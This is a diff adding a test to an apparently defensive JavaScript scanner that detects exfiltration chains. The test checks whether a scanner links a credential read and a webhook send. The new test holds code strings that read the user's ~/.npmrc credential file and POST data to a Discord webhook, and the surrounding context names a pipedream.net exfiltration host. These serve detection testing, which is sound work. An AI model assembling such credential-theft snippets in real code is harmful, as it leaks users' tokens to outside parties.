@@ -131,6 +131,14 @@ describe('exfiltration and attack chains', () => {
     expect(out.chains?.[0]?.title).toMatch(/at install time/);
     expect(severe(js(code))).toEqual([]);
   });
+  it('a credential read and a webhook far apart in one file (a bundle\'s unrelated modules) form no chain; close together they do', () => {
+    const read = "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n";
+    const send = "fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: x });\n";
+    const filler = `${'const unrelated = [1, 2, 3].map((n) => n * 2);\n'.repeat(100)}`;
+    expect(js(read + send).chains?.length).toBe(1);
+    expect(js(read + filler + send).chains).toEqual([]);
+    expect(codes(js(read + filler + send))).toEqual(expect.arrayContaining(['reads_credential_files', 'discord_webhook']));
+  });
   it('an exfiltration host alone, with nothing collected, forms no chain', () => {
     expect(js("const url = 'https://abc.m.pipedream.net';").chains).toEqual([]);
   });
